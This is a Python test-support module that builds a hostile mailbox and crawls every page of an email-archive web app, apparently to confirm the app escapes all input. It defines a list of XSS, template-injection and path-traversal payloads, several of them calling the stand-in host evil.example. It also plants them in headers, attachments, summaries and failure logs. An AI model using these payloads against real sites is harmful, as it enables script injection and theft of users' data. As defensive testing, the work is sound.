"""A mailbox that wants to do harm wherever it is shown, and all pages that may show it."""

from __future__ import annotations

import re
from email.header import Header
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from html import unescape
from pathlib import Path

from onward import App
from onward.model.failures import Failure
from onward.model.ledger import NewDocument
from onward.pipeline.documents import Summary
from onward.pipeline.sources import submit
from tests.support.console_client import HTML, Site

EVIL = "evil.example"
WORD = "kittiwake"
"""Stands in every part, so that a search finds it."""
SCRIPT = f"<script>window.harmed=1;fetch('http://{EVIL}/script')</script>"
PAYLOADS = (
    SCRIPT,
    f"\"'><img src=http://{EVIL}/img onerror=window.harmed=1>",
    f"<svg onload=window.harmed=1><image href=http://{EVIL}/svg></svg>",
    f"<iframe src=http://{EVIL}/frame srcdoc='<script>parent.harmed=1</script>'></iframe>",
    f"<style>@import 'http://{EVIL}/css'; body {{ background: url(http://{EVIL}/bg) }}</style>",
    f"<link rel=stylesheet href=http://{EVIL}/link><base href=http://{EVIL}/><meta http-equiv=refresh content=0>",
    "<a href=javascript:window.harmed=1 onclick=window.harmed=1 style=position:fixed>click</a>",
    f"<form action=http://{EVIL}/form><input autofocus onfocus=window.harmed=1></form>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}</title></textarea></script>\u202e\x02\x03\x1b[2J",
    f"[link](javascript:window.harmed=1) ![img](http://{EVIL}/md) [x]: http://{EVIL}/ref <http://{EVIL}/auto>",
)
ALL = f" {WORD} ".join(PAYLOADS)


def _mail(number: int, payload: str) -> bytes:
    text = f"A {WORD} sat here. {ALL}\n\n> {ALL}\n\nIt was a fine {WORD}. It sang: {payload}\n\n-- \n{ALL}\n"
    one = MIMEMultipart()
    one["Subject"] = Header(f"{WORD} {payload}", "utf-8").encode()
    one["From"] = f"{Header(payload, 'utf-8').encode()} <ada@example.org>"
    one["To"] = f"{Header(payload, 'utf-8').encode()} <to@example.org>"
    one["Date"] = "Mon, 02 Mar 2026 09:00:00 +0000"
    one["Message-ID"] = f'<{number}"><script>window.harmed=1</script>@{EVIL}>'
    one.attach(MIMEText(text, "plain", "utf-8"))
    if number % 2:
        one.attach(MIMEText(f"<body onload=window.harmed=1><p>{WORD}</p>{ALL}</body>", "html", "utf-8"))
    for kind, name in (("plain", f"{payload}/../../{WORD}.txt"), ("svg+xml", 'x"><svg onload=alert(1)>.svg')):
        attached = MIMEText(f"{WORD} {ALL}", kind, "utf-8")
        attached.add_header("Content-Disposition", "attachment", filename=("utf-8", "", name))
        one.attach(attached)
    return b"From evil@example.org Mon Mar  2 09:00:00 2026\n" + one.as_bytes() + b"\n\n"


def _html_only(payload: str) -> bytes:
    head = "From x@example.org Mon Mar  2 09:10:00 2026\nFrom: x@example.org\nSubject: only HTML\n"
    head += "Message-ID: <html@example.org>\nDate: Mon, 02 Mar 2026 09:10:00 +0000\nContent-Type: text/html\n\n"
    return (head + f"<html><body><p>{WORD} is here, and it stays.</p>{payload}</body></html>\n\n").encode()


def ingest(app: App, folder: Path) -> None:
    """Ingest such a mailbox, and let its threads be summed up by somebody who wants harm, too."""
    folder.mkdir(parents=True, exist_ok=True)
    box = folder / "a'><img src=x onerror=window.harmed=1>.mbox"
    box.write_bytes(b"".join(_mail(number, one) for number, one in enumerate(PAYLOADS)) + _html_only(ALL))
    submit(app, str(box))
    app.work_until_idle()
    for state in app.store.states(Summary, limit=100):
        summary = app.get(Summary, state.id)
        assert summary is not None
        told = summary.model_copy(update={"markdown": f"**{ALL}** [1]\n\n{ALL}\n\n- {SCRIPT}\n", "model": ALL})
        app.store.replace_document(NewDocument("summaries", told.id, told.to_json(), told.source))
    failure = Failure.of(ValueError(ALL), at=app.store.now(), service="parsing", worker=SCRIPT, version=SCRIPT)
    app.store.keep_malformed(ALL.encode(), failure, event_type=SCRIPT)
    app.store.log_action(SCRIPT, "cli", SCRIPT, {"about": ALL}, 1)
    app.store.open_breaker("embedder", ALL, remedy=SCRIPT)


START = (
    "/",
    f"/search?q={WORD}",
    f"/search?q={WORD}&part=results",
    f"/ask?q={WORD}",
    "/threads",
    "/documents",
    "/tasks",
    "/failures",
    "/queues",
    "/workers",
    "/actions",
)
MOST = 400
"""Pages; there are fewer as long as no page leads to ever more others."""


def crawl(site: Site) -> dict[str, str]:
    """Every page that can be reached by clicking, as it was sent."""
    found: dict[str, str] = {}
    waiting = list(START)
    while waiting:
        path = waiting.pop(0)
        if path in found:
            continue
        answer = site.client.get(path, headers=HTML)
        if not answer.headers["content-type"].startswith("text/html"):
            continue
        assert answer.status_code == 200, path
        found[path] = answer.text
        assert len(found) < MOST, f"ever more pages: {path}"
        links = (unescape(one) for one in re.findall(r'(?:href|data-load)="(/[^"#]*)', answer.text))
        waiting += [one for one in links if not one.startswith("/static/")]
    return found
